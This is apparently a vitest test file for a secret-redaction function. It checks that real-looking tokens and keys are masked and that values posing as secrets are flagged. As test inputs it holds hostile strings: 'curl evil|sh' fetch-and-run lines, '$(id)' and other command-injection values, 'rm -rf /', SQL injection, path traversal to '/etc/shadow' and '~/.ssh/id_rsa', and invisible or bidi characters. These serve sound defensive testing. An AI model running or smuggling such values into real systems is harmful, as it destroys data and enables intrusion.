import { expect, test } from "vitest";
import { redactAll } from "#base";

const oddOf = (secret: string) => redactAll({ secret }).odd;
const pem = (body: string) => `-----BEGIN RSA PRIVATE KEY-----\n${body}\n-----END RSA PRIVATE KEY-----\n`;
const line = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj";

test.for([
  "hunter2",
  "P@ssw0rd!#^*",
  "correct-horse-battery-staple",
  "пароль2026",
  "ghp_0123456789abcdefghij0123456789abcdef",
  "sk-proj-abcdefghij0123456789",
  "AKIAIOSFODNN7EXAMPLE",
  "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
  "1//0gLxAbCdEf-GhIjKlMn123_x",
  "dGhpcyBpcyBhIHNlY3JldCBvZiBtYW55IGJ5dGVz+/==",
  "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-def_1",
  "Bearer abcdefgh12345678",
  "Basic dXNlcjpwYXNz",
  "s%3Aabcdef.ghij",
  "0123456789abcdef".repeat(4),
  "xoxb-1234567890-abcdef",
  "A1b".repeat(1_000),
  pem(line),
  pem(`Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0123\n\n${line}\nMIIE==`),
])("an ordinary secret is not odd: %s", (secret) => {
  expect(oddOf(secret)).toEqual([]);
});

test.for<[secret: string, why: string]>([
  ["x; curl evil|sh", "shell characters"],
  ["x;reboot", "shell characters"],
  ["$(id)", "shell characters"],
  ["`id`", "shell characters"],
  ["a&&b", "shell characters"],
  [">out", "shell characters"],
  ["{rm,-rf,x}", "shell characters"],
  ["x' OR '1'='1", "shell characters"],
  ["Bearer x;id", "shell characters"],
  ["a%3Bid", "shell characters"],
  ["a%253Bid", "shell characters"],
  ["%ff%3Bid", "shell characters"],
  ["delete everything now", "blanks"],
  ["delete%20everything", "blanks"],
  ["../../etc/passwd", "a path"],
  ["%2e%2e%2fsecrets", "a path"],
  ["/etc/shadow", "a path"],
  ["/home/Ana/Projects2/keys", "a path"],
  ["~/.ssh/id_rsa", "a path"],
  ["deploy/Prod2026ConfigurationX", "a path"],
  ["C:/Windows/System32", "a path"],
  ["https://evil.example/x", "a URL"],
  ["//evil.example/x", "a URL"],
  ["evil.com", "a URL"],
  ["10.0.0.1:8080", "a URL"],
  ["file:x", "a URL"],
  ["--force", "an option of a command"],
  ["-rf", "an option of a command"],
  ["a\nb", "control or invisible characters"],
  ["a\u001b[2Jb", "control or invisible characters"],
  ["pass\u200bword", "control or invisible characters"],
  ["a\u00a0b", "control or invisible characters"],
  ["a\u202eb", "control or invisible characters"],
  ["rm；reboot", "symbols of no token"],
  ["a".repeat(5_000), "longer than secrets are"],
  [pem("reboot\nnow"), "blanks"],
  ["-----BEGIN PRIVATE KEY----- ; rm -rf /", "shell characters"],
])("what poses as a secret is odd for one, and its mask says why [S-62]: %j", ([secret, why]) => {
  const { value, odd } = redactAll({ secret });
  expect(odd).toContain(why);
  expect((value as { secret: string }).secret).toContain(why);
});

test("what is odd is found in text, in keys, in lists and under names of the config's [S-62]", () => {
  for (const args of [
    { cmd: `curl --token "x; rm -rf ~"` },
    { "-----BEGIN PRIVATE KEY----- ; id": 1 },
    { headers: ["Authorization: Bearer", { name: "X-Api-Key", value: "a|b" }] },
    { argv: ["--password", "a b"] },
    { ssn: "1; 2" },
  ])
    expect(redactAll(args, { names: ["ssn"] }).odd).not.toEqual([]);
  expect(redactAll({ note: "x; curl evil|sh", token: "abc", list: ["--token", "abc"] }).odd).toEqual([]);
});
